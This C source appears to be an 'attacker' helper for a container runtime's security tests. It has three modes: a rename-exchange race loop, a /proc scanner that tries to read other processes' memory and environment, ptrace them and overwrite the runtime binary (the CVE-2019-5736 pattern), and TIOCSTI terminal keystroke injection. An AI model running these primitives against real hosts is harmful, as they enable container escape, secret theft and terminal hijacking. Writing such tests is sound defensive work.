/* What an attacker runs, of whom most only win if they are fast: a static program, so that it runs in any container.
 *
 *     attacker exchange A B          exchange two names, over and over, until it is killed
 *     attacker grab FILE             from inside a container, until FILE is there: reach for every other process, and
 * print one line for each thing that was got from one that runs a memfd: WHAT EXE OBJECT. "exe DEV:INO" is printed of
 * every program that a process was seen to run; "wrote" if one of those could be opened for writing and was changed
 *     attacker tty                   push input into the terminal behind descriptor 0, and reach for /dev/tty
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static _Noreturn void exchange(const char *a, const char *b)
{
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2); /* RENAME_EXCHANGE */
}

/* One line each, once. */
static void report(const char *line)
{
    static char seen[512][200];
    static int count;
    for (int i = 0; i < count; i++)
        if (!strncmp(seen[i], line, sizeof(seen[i]) - 1)) return;
    if (count < 512) snprintf(seen[count++], sizeof(seen[0]), "%s", line);
    puts(line);
    fflush(stdout);
}

/* What was got from a process counts if it still runs the memfd afterwards: nobody goes back to one. */
static void got(int pid, const char *what, int fd)
{
    char path[64], exe[64] = "", object[256] = "", line[400];
    const char *whose = "";
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (readlink(path, exe, sizeof(exe) - 1) < 0 || strncmp(exe, "/memfd:", 7)) return;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    struct stat own, st;
    if (fd >= 0) (void)!readlink(path, object, sizeof(object) - 1);
    /* a directory that is not below our root is shown as if it were: ours is what is the same when we look it up */
    if (fd >= 0 && *object == '/' && !fstat(fd, &st) && !stat(object, &own) && st.st_dev == own.st_dev &&
        st.st_ino == own.st_ino)
        whose = "own ";
    snprintf(line, sizeof(line), "%s %s %s%s", what, exe, whose, object);
    report(line);
}

static int reach(int pid, const char *name, int flags)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
}

static void reach_descriptors(int pid)
{
    int folder = reach(pid, "fd", O_RDONLY | O_DIRECTORY);
    DIR *all = folder < 0 ? NULL : fdopendir(folder);
    for (struct dirent *entry; all && (entry = readdir(all));) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3) continue;
        int fd = openat(folder, entry->d_name, O_PATH | O_CLOEXEC);
        char what[32];
        snprintf(what, sizeof(what), "fd/%.20s", entry->d_name);
        if (fd >= 0) {
            got(pid, what, fd);
            close(fd);
        }
    }
    if (all) closedir(all);
}

#define HELD 64

static void reach_program(int pid)
{
    static int held[HELD];
    static int next;
    struct stat st;
    char line[100], path[64];
    int fd = reach(pid, "exe", O_PATH);
    if (fd < 0) return;
    if (fstat(fd, &st) == 0) {
        snprintf(line, sizeof(line), "exe %u:%u:%lu", major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino);
        report(line);
    }
    /* whoever ran it then may have ended by now: what nobody executes can be opened for writing (CVE-2019-5736) */
    if (held[next]) close(held[next]);
    held[next] = fd;
    next = (next + 1) % HELD;
    for (int i = 0; i < HELD; i++) {
        if (!held[i]) continue;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
        int file = open(path, O_WRONLY | O_CLOEXEC);
        if (file < 0) continue;
        /* the container's own programs are its own to change: for that they are read-only in the test */
        if (write(file, "#", 1) == 1 || ftruncate(file, 0) == 0) report("wrote");
        close(file);
    }
}

static int grab(const char *stop)
{
    static const char *const names[] = {"mem", "environ", "root", "cwd", "maps", "ns/mnt"};
    int self = getpid();
    while (access(stop, F_OK)) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self || pid == 1) continue;
            reach_program(pid);
            for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
                int fd = reach(pid, names[i], i < 2 ? O_RDWR : O_RDONLY | O_NOCTTY);
                if (fd < 0 && i < 2) fd = reach(pid, names[i], O_RDONLY);
                char byte;
                /* mem and environ can be opened for nothing: only what can be read counts */
                if (fd >= 0 && (i != 1 || read(fd, &byte, 1) >= 0)) got(pid, names[i], fd);
                if (fd >= 0) close(fd);
            }
            reach_descriptors(pid);
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                got(pid, "ptrace", -1);
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                if (waitpid(pid, NULL, __WALL) == pid) ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
        if (proc) closedir(proc);
    }
    return 0;
}

static int tty(void)
{
    int pushed = 0;
    for (const char *c = "echo pushed\n"; *c; c++)
        pushed += ioctl(0, TIOCSTI, c) == 0;
    int stolen = ioctl(0, TIOCSCTTY, 1) == 0;
    int opened = open("/dev/tty", O_RDWR) >= 0;
    printf("%d %d %d %d\n", pushed, stolen, opened, getsid(0) == getpid());
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "exchange")) exchange(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "grab")) return grab(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "tty")) return tty();
    fputs("attacker exchange|grab|tty ...\n", stderr);
    return 2;
}
